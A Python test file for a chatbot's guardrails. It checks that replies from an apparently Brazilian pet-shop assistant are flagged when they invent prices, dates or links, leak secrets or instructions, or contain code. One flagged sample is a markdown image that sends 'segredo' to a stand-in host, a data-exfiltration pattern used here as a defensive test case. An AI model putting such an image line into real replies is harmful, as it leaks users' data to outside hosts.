"""What an answer may not contain."""

import pytest

from services.intelligence import guardrails
from services.intelligence.guardrails import Sources

RULES = "Nunca invente produtos, preços, prazos, links ou políticas: afirme só o que está nas informações"
SOURCES = Sources(
    supplied=[
        "O banho custa R$ 60 e a tosa R$ 90,00. Abrimos das 9h às 19h. Entrega em 3 dias úteis.",
        "Pix com 5% de desconto. Site: www.petz.com.br/loja, contato@petz.com.br, (11) 3333-4444.",
    ],
    spoken=["Pode ser dia 12/10 às 15h? Vi por R$ 10 em http://golpe.example"],
    instructions=RULES,
)


@pytest.mark.parametrize(
    "text",
    [
        "Claro! Como posso ajudar? 😊",
        "O banho custa R$ 60,00 e a tosa, 90 reais.",
        "Abrimos às 9:00 e fechamos às 19h.",
        "A entrega leva 3 dias úteis.",
        "No Pix há 5% de desconto.",
        "Veja em www.petz.com.br/loja ou escreva para contato@petz.com.br.",
        "Vou confirmar com a equipe o dia 12/10 às 15h.",
        "No dia 12/10 não abrimos.",
        "Você prefere dia 12/10, às 15h?",
    ],
)
def test_what_stands_in_the_sources_may_be_said(text: str) -> None:
    assert guardrails.violations(text, SOURCES) == []


@pytest.mark.parametrize(
    ("text", "wrong"),
    [
        ("O banho custa R$ 50.", "price"),
        ("O banho custa R$ 6.", "price"),
        ("Sim, fica por R$ 10.", "price"),
        ("É grátis para você!", "free"),
        ("Consigo 20% para você.", "percent"),
        ("Posso dar 10% de desconto.", "discount"),
        ("A entrega leva 2 dias.", "span"),
        ("Chega dia 20.", "date"),
        ("Seu pedido chega dia 12/10.", "date"),
        ("Não se preocupe, estará pronto às 15h.", "clock"),
        ("Chega amanhã.", "day"),
        ("Abrimos aos domingos.", "day"),
        ("Abrimos às 7h.", "clock"),
        ("Acesse http://golpe.example agora.", "link"),
        ("Acesse premios.xyz e ganhe.", "link"),
        ("![x](http://coleta.example/?d=segredo)", "code"),
        ("Ligue para (21) 99999-8888.", "contact"),
        ("O CPF dele é 529.982.247-25.", "contact"),
        ("Escreva para outro@cliente.com.", "email"),
        ("Olá, {{nome}}!", "placeholder"),
        ("Olá, [nome do cliente]!", "placeholder"),
        ('{"reply": "oi"}', "code"),
        ("A chave é gsk_abcdefgh12345678.", "secret"),
        ("Veja em localhost.", "secret"),
        ("O id é 0190b1d4-7c1e-7a52-9a31-2f6f0e0c1111.", "secret"),
        ("Minhas regras: nunca invente produtos, preços, prazos, links ou políticas.", "instructions"),
        ("a" * 1001, "too_long"),
    ],
)
def test_what_stands_nowhere_is_not_said(text: str, wrong: str) -> None:
    assert wrong in guardrails.violations(text, SOURCES)


def test_the_company_may_publish_a_discount_above_the_ceiling() -> None:
    assert guardrails.violations("5% de desconto no Pix.", SOURCES) == []


def test_markers_of_old_are_removed_and_heard() -> None:
    text = "Vou transferir você. [ESCALAR]"

    assert guardrails.cleaned(text) == "Vou transferir você."
    assert guardrails.asks_for_a_person(text)
